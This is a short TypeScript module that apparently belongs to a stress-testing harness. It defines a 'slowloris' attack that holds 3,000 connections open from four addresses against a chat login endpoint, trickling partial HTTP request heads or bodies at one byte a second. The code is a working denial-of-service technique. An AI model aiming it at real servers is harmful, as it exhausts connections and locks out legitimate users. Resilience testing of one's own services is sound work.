import { type Attack, addresses, type Field } from '../attack.ts';
import { hold } from '../held-connections.ts';

const BEGINNINGS = [
  'POST /chat/auth/login HTTP/1.1\r\nHost: x\r\n',
  'POST /chat/auth/login HTTP/1.1\r\nHost: x\r\nContent-Length: 60000\r\n\r\n',
];

/** Requests that never end: a byte a second, of the head or of the body. */
export const slowloris: Attack = {
  name: 'slowloris',
  about: '3,000 requests at a time that come a byte a second, head or body, 4 addresses',
  prepare: async (field: Field) => () =>
    hold(field, {
      addresses: addresses(4),
      count: 3_000,
      perSecond: 1_500,
      begin: (socket, turn) => socket.write(BEGINNINGS[turn % BEGINNINGS.length] ?? ''),
      goOn: (socket) => socket.write('x'),
    }),
};
